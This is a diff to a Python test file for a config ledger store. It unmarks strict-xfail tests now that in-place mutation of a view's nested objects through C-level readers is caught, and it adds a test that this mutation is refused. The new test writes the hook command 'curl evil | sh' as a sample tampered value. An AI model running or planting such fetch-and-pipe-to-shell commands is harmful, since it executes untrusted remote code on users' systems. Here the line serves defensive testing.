@@ -6,11 +6,11 @@ The copy's root is safe against the C-level readers (review r6 F5/F5b), but one
 level below it a section twin's slots are still the view's own objects until read
 through `__getattribute__`: `msgspec.structs.asdict/astuple`, `__rich_repr__` and the
 same readers on `copy.copy`/`structs.replace` of a section twin hand them out.
-OPEN (strict xfail, so a fix must remove the mark): preventing it means a private copy
-of everything below the root on every edit, and detecting it an encode of the whole
-view per edit (measured 2.8 us on the docs example, 76 us on the large generated
-config), both of which make an edit's cost grow with the config's size again (issue
-16). The root map findings below are fixed.
+Now every view's sections are encoded when it is made, so what it serves is what the
+ledger wrote, and an edit checks the sections its copy reached against that JSON
+(`TypedView._check`): a view changed in place is dropped and built again from the
+raw document, and `fn` runs again; an `fn` that does it again is refused with the fix.
+The root map findings below are fixed too.
 """
 
 from __future__ import annotations
@@ -21,7 +21,7 @@ from typing import Any
 import msgspec
 import pytest
 
-from ledger import MemoryConfigStore
+from ledger import ConfigValidationError, MemoryConfigStore
 from ledger.typed.convert import to_typed
 from tests.conftest import run
 
@@ -61,8 +61,6 @@ def _state(store: MemoryConfigStore) -> tuple[str, str, str]:
             raw["hooks"]["hooks"][0]["command"])
 
 
-@pytest.mark.xfail(strict=True, reason="review r7 finding 1 (open): a C-level reader of a "
-                   "section twin reaches the view's nested objects")
 @pytest.mark.parametrize("reader", READERS, ids=lambda r: r.__name__)
 def test_a_section_read_by_a_c_level_reader_never_changes_the_view(reader: Any) -> None:
     """fn changes a hook through a C-level reader of the section twin and then fails:
@@ -83,8 +81,6 @@ def test_a_section_read_by_a_c_level_reader_never_changes_the_view(reader: Any) 
     assert (here, fresh, raw) == ("echo ok", "echo ok", "echo ok")
 
 
-@pytest.mark.xfail(strict=True, reason="review r7 finding 1 (open): a C-level reader of a "
-                   "section twin reaches the view's nested objects")
 @pytest.mark.parametrize("reader", READERS, ids=lambda r: r.__name__)
 def test_a_write_after_a_c_level_read_of_a_section_is_recorded(reader: Any) -> None:
     """The corrupted `pristine` is the base of the next diff: a later, legitimate edit
@@ -99,8 +95,6 @@ def test_a_write_after_a_c_level_read_of_a_section_is_recorded(reader: Any) -> N
     assert _state(store) == ("x", "x", "x")
 
 
-@pytest.mark.xfail(strict=True, reason="review r7 finding 1 (open): a C-level reader of a "
-                   "section twin reaches the view's nested objects")
 def test_a_kept_copy_read_by_a_c_level_reader_after_the_write_never_changes_the_view(
         ) -> None:
     """A caller keeps its copy (allowed): after the write, its section twin's unread
@@ -150,3 +144,28 @@ def test_a_root_map_only_reordered_is_decided_as_the_whole_section_path(fn: Any)
     fast, whole = _edit_both(fn)
     assert fast[:2] == whole[:2] == ([], None)
     assert fast == whole
+
+
+def test_fn_that_changes_the_view_through_a_c_level_reader_is_refused_with_the_fix() -> None:
+    """fn itself changes a value in place through `asdict` of a section it also edits:
+    the view it reached no longer encodes to what the ledger wrote, the edit runs again
+    on a view built from the raw document, where fn does the same, and is refused with
+    how to make it; nothing is written and the next edit is served from a clean view."""
+    store = MemoryConfigStore()
+    run(store.save_raw(BASE, actor="a"))
+    run(store.load_raw())
+    calls = []
+
+    def fn(c: Any) -> None:
+        calls.append(1)
+        _asdict(c)[0].command = "curl evil | sh"
+        c.hooks.hooks[0].name = "h2"
+
+    with pytest.raises(ConfigValidationError, match="through its attributes") as err:
+        run(store.update_raw(fn, actor="a"))
+    assert "hooks" in str(err.value) and len(calls) == 2
+    assert store.ledger.head_state().seq == 1
+    assert _state(store) == ("echo ok", "echo ok", "echo ok")
+    run(store.update_raw(lambda c: setattr(c.hooks.hooks[0], "name", "h3"), actor="a"))
+    assert run(store.load_raw()).hooks.hooks[0].name == "h3"
+    assert _state(store) == ("echo ok", "echo ok", "echo ok")
